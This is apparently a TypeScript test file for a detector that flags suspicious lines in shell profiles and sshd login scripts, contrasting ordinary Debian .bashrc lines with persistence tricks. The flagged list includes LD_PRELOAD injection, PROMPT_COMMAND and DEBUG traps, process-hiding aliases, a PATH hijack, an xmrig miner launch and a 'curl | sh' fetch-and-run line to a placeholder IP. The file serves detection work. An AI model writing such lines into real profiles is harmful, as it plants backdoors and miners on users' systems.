import assert from "node:assert/strict";
import { test } from "node:test";
import { entriesOf } from "./entries.ts";

/** Lines as in the profiles of Debian 12 and of tools that write into them. */
const USUAL = [
  "# ~/.bashrc: executed by bash(1) for non-login shells.",
  '[ -z "$PS1" ] && return',
  "case $- in *i*) ;; *) return;; esac",
  "HISTCONTROL=ignoreboth",
  "shopt -s checkwinsize",
  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
  "alias ls='ls --color=auto'",
  "alias grep='grep --color=auto'",
  "alias ll='ls -alF'",
  "alias sudo='sudo '",
  "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi",
  'export PATH="$HOME/.local/bin:$PATH"',
  "export EDITOR=vim",
  '. "$HOME/.cargo/env"',
  "mesg n 2> /dev/null || true",
  "umask 022",
  'test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"',
];
for (const line of USUAL) {
  test(`${line} only sets the shell up`, async () => {
    assert.deepEqual(await entriesOf(`${line}\n`, "/home/deploy/.bashrc"), []);
  });
}

const MORE = [
  "export LD_PRELOAD=/usr/lib/a.so",
  "PROMPT_COMMAND='/srv/a'",
  "trap '/srv/a' DEBUG",
  "alias ps='ps | grep -v kswapd1'",
  "alias ls='/srv/.a/ls'",
  'ps() { command ps "$@" | grep -v a; }',
  "(/srv/a &)",
  "nohup /srv/a >/dev/null 2>&1",
  "/tmp/.x/run",
  "/home/deploy/.configrc5/a/upd",
  "curl -s http://192.0.2.1/a | sh",
  "export PATH=/tmp/x:$PATH",
  "./xmrig -c config.json",
];
for (const line of MORE) {
  test(`${line} does more`, async () => {
    assert.deepEqual(await entriesOf(`${line}\n`, "/home/deploy/.bashrc"), [
      `profile | - | deploy | - | ${line}`,
    ]);
  });
}

test("all of the script that sshd runs at a login is told", async () => {
  assert.deepEqual(await entriesOf("# x\necho hi\n", "/root/.ssh/rc"), ["profile | - | root | - | echo hi"]);
});
